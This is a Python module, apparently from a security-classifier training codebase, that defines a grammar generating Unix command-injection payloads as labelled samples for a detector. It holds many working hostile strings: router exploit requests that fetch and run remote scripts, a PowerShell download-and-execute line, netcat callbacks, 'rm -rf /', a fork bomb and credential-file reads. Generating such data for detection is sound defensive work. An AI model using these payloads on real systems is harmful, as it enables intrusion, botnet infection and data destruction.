"""Operating-system commands of Unix shells: separators, substitutions, short probes, devices."""

from __future__ import annotations

from securitai.train.corpora.attacks.cmdi_base import SHELL, shell_encode
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.kinds import (
    COOKIE,
    FILENAME,
    HEADER,
    NAME,
    PATH,
    VALUE,
    AttackKind,
)
from securitai.verdict import Category

_G = Grammar(
    r"""
unix:
  10×‹hostpre›‹sepu›‹run›‹closeu›
  3×$(‹run›)
  3×`‹run›`
  2×‹hostpre›$(‹run›)
  2×‹hostpre›`‹run›`
  2×‹hostpre›‹sepu›$(‹run›)‹closeu›
  ‹sepu›‹ucmd0›‹closeu›
  ‹sepu›`‹run›`‹closeu›
  '$(‹run›)'
  "`‹run›`"
  {{`‹run›`}}
  $(`‹run›`)
  ${`‹run›`}
  ${‹run›}
  @(`‹run›`)
  "|‹run›|"
  <(‹run›)
  >(‹run›)
  ‹hostpre›|‹run›|
  ‹run›|
  $((`‹run›`))
  $(‹run›).‹host›
  ‹run›;‹run›
  ‹run›&&‹run›
  ‹ucmd0›;
  -‹c›‹sp›‹hostpre›;‹run›
  "';‹run›;'"
  '||‹run›||'
  \`‹run›\`
  %24%28‹enc›%29
  %60‹enc›%60
  %3B‹enc›
  |‹enc›
  ;system('‹ucmd›')
  |‹upath›
  ;‹upath›;
  a;‹upath›
  a)|‹ucmd0›;
  <!--#exec cmd="‹upath›"-->
  ‹hostpre›%0a‹enc›%0a
  ‹hostpre›;‹nospace›;
  ‹hostpre›|‹nospace›
  --exec=`‹ucmd0›`
  -oProxyCommand=‹ucmd0›
  --upload-pack=‹ucmd0›
  --use-compress-program=‹ucmd0›
  -eval 'os.execute("‹ucmd0›")'
  --post-file=‹u_file›
  --output=/var/www/html/‹rnd›.php
  -X‹url›
  -oQ/tmp/ -X/var/www/html/‹rnd›.php
bare:
  4×‹twoword›
  2×‹download›
  2×‹reverse›
  ‹piped›
  ‹probe›
  ‹upath›
iot:
  ‹sepu›‹download›‹closeu›
  ‹hostpre›;‹download›
  $(‹download›)
  `‹download›`
  ‹hostpre›|‹download›
  ‹hostpre›%0a‹download›
  `busybox wget http://‹ip›/‹shfile›`
  ;cd+/tmp;wget+http://‹ip›/‹shfile›+-O+-+|+sh;
  XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://‹ip›/‹az›+-O+/tmp/‹az›;sh+/tmp/‹az›&ipv=0
  todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://‹ip›/‹az›+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
  submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`cd+/tmp;wget+http://‹ip›/‹shfile›;sh+‹shfile›`&StartEPI=1
  ping_IPAddr=127.0.0.1;‹download›
  <NewStatusURL>$(/bin/busybox wget -g ‹ip› -l /tmp/‹az› -r /‹shfile›;/bin/busybox chmod 777 /tmp/‹az›;/tmp/‹az› huawei.rep)</NewStatusURL>
  <NewInternalClient>`cd /var;rm -rf ‹az›;wget http://‹ip›/‹shfile›;sh ‹shfile›`</NewInternalClient>
  cmd.exe /c "powershell (new-object System.Net.WebClient).DownloadFile('http://‹ip›/‹az›.exe','%SystemRoot%/Temp/‹az›.exe');start %SystemRoot%/Temp/‹az›.exe"
  shell?cd+/tmp;rm+-rf+*;wget+‹ip›/‹az›;chmod+777+‹az›;/tmp/‹az›
  [{"key":"/etc/passwd","pass":"‹az›"}];‹download›
  '$(‹download›)'
  ‹ip›;{‹download›;}
  /bin/sh${IFS}-c${IFS}'cd${IFS}/tmp;${IFS}wget${IFS}http://‹ip›/‹az›;sh${IFS}‹az›'
sepc = ;¦;¦|¦|¦||¦&¦&&¦; ¦ | ¦ && ¦ & ¦);¦';¦";¦%0a¦%3b
closec = ¦¦¦;¦|¦ #¦&¦;#¦\n
plain = id¦whoami¦ls¦pwd¦uname -a¦ls -la¦cat /etc/passwd¦ifconfig¦env¦ps¦w¦dir¦ver¦ipconfig¦netstat -an¦sleep 5¦reboot
short:
  4×‹sepc›‹plain›‹closec›
  3×‹az›‹sepc›‹plain›‹closec›
  2×‹n›‹sepc›‹plain›‹closec›
  2×‹ip›‹sepc›‹plain›
  ‹site›‹sepc›‹plain›
  www.`‹plain›`.‹tld›
  http://‹az›`‹plain›`.‹tld›
  ‹site›/`‹plain›`
  ‹az›`‹plain›`
  ‹az›$(‹plain›)
  ‹sepc›perl -e 'print "‹c›"x‹#500-20000›'
  perl -e 'print "‹c›"x‹#500-20000›'
  python -c "print('‹c›'*‹#500-20000›)"
  ‹sepc› type C:\‹WINNT¦Windows›\repair\‹SAM¦SYSTEM›
  ‹sepc› type %SYSTEMROOT%\repair\‹SAM¦SYSTEM›
  \n‹plain›;
  \n‹plain›\n
  \n/usr/bin/‹plain›\n
  "; echo "‹rnd›"
  '; echo '‹rnd›'
  $(echo "‹az›: $(echo "‹az›")")
  ;echo ‹rnd›;
  >/dev/null;‹plain›
  <‹plain›%0a
  ;‹ucmd0›
  |‹ucmd0›
  ||‹ucmd0›
  &‹ucmd0›
  &&‹ucmd0›
  `‹ucmd0›`
  $(‹ucmd0›)
  ;‹ucmd0›;
  |‹ucmd0›|
  ‹nl›‹ucmd0›
  ;‹sp›‹ucmd0›
  &‹sp›‹wcmd0›
  |‹sp›‹wcmd0›
  ‹n›;‹ucmd0›
  ‹n›|‹ucmd0›
  ‹n›&‹ucmd0›
  ‹n›||‹ucmd0›
  ‹n›`‹ucmd0›`
  ‹word›;‹ucmd0›
  ‹word›|‹ucmd0›
  ‹word› && ‹ucmd0›
  ‹rnd›;‹ucmd0›
  ;‹ucmd0›#
  ‹ucmd0›;
  |cat ‹u_file›
  ;cat ‹u_file›
  ;ls${IFS}-la
  $USER
  $(whoami)
  ${PATH}
  ‹hostpre›;‹ucmd0›
  ‹hostpre›|‹ucmd0›
  ‹hostpre›`‹ucmd0›`
  ‹hostpre›$(‹ucmd0›)
  :|‹ucmd0›
  >/tmp/‹rnd›
  >> ‹u_file›
  <‹u_file›
  |nc ‹ip› ‹port›
  ;reboot
  ;rm -rf /
  rm -rf ‹/¦*¦~¦/*¦/var¦--no-preserve-root /›
  :(){ :|:& };:
  ;sleep ‹#1-30›
  |sleep ‹#1-30›
  &ping -n ‹#1-30› 127.0.0.1
  ||ping -c ‹#1-30› ‹host›||
""",
    SHELL,
)

_ALL = (VALUE, COOKIE, HEADER, NAME, FILENAME, PATH)
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("cmdi.unix", Category.CMDI, _G.maker("unix", shell_encode), 8.0, _ALL),
    AttackKind("cmdi.bare", Category.CMDI, _G.maker("bare"), 2.0, (VALUE,)),
    AttackKind("cmdi.iot", Category.CMDI, _G.maker("iot", shell_encode), 2.0, _SOME),
    AttackKind("cmdi.short", Category.CMDI, _G.maker("short", shell_encode), 4.0, _SOME),
)
